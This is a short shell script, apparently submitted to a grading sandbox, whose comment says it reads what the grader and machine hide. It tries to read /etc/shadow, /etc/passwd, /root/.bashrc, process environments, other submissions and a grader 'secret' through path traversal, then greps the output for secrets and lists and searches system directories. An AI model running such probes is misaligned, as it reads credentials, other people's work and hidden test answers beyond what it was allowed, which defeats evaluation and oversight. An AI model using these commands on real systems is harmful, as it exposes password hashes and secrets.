# Reads what the grader, the machine and others hide: nothing of it is there.
cat "$TMPDIR"/../../secret "$TMPDIR"/../../*/submission/* /etc/shadow \
	/etc/passwd /root/.bashrc /proc/*/environ /proc/*/root/secret 2>/dev/null |
	tr '\0' '\n' | grep -e secret -e root:
ls -d /root/* /home/* /var/* /sys/* /boot/* 2>/dev/null
find / -maxdepth 3 -name secret 2>/dev/null
echo "done"
